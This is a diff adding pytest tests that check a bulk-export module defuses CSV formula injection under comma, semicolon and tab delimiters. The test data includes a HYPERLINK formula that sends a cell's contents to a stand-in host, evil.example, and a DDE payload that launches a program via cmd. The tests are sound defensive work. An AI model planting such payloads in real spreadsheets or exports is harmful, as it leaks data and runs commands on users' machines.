@@ -123,6 +123,43 @@ def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_defused():
     assert [r["name"] for r in rows] == ['\'=HYPERLINK("http://x")', "'-Bob"]
 
 
+HOSTILE_NAMES = [
+    'Ada;=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "Grace;  +1+1",
+    "Linus,@SUM(A1:A9)",
+    'Bob; "=1+1"',
+    "Eve;-2+3;=3",
+]
+FORMULA = ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_is_a_formula_whichever_delimiter_the_spreadsheet_splits_on(delimiter):
+    """A spreadsheet in a ';' or tab locale splits our lines elsewhere than we do: every
+    piece it can make must still be text."""
+    result = bulk.BulkResult(
+        "provision",
+        tuple(bulk.Outcome(n, error="x;=cmd|' /C calc'!A0\t@SUM(1)") for n in range(1, 6)),
+    )
+    buffer = io.StringIO()
+    bulk.export_csv(result, buffer, names=HOSTILE_NAMES)
+    cells = [c for row in csv.reader(io.StringIO(buffer.getvalue()), delimiter=delimiter)
+             for c in row]  # fmt: skip
+    assert len(cells) >= 6  # a header and five rows at least
+    for cell in cells:
+        assert not cell.lstrip(' "').startswith(FORMULA), (delimiter, cell)
+        assert not cell.startswith(("\t", "\r")), (delimiter, cell)
+
+
+def test_defusing_keeps_the_text_readable():
+    rows = bulk.csv_rows(
+        bulk.BulkResult("provision", (bulk.Outcome(1, error="x"),)), names=[HOSTILE_NAMES[0]]
+    )
+    assert rows[0]["name"] == 'Ada;\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert bulk._safe_cell("Jean-Luc Picard, +49 30 1234") == "Jean-Luc Picard, '+49 30 1234"
+    assert bulk._safe_cell("Ada Lovelace") == "Ada Lovelace"
+
+
 def test_remove_exports_removes_only_the_labs_csv_files(client, tmp_path):
     result = bulk.provision(client, 1, ["voip"], 60)
     ours = [tmp_path / "room.csv", tmp_path / "room-with-tokens.csv"]
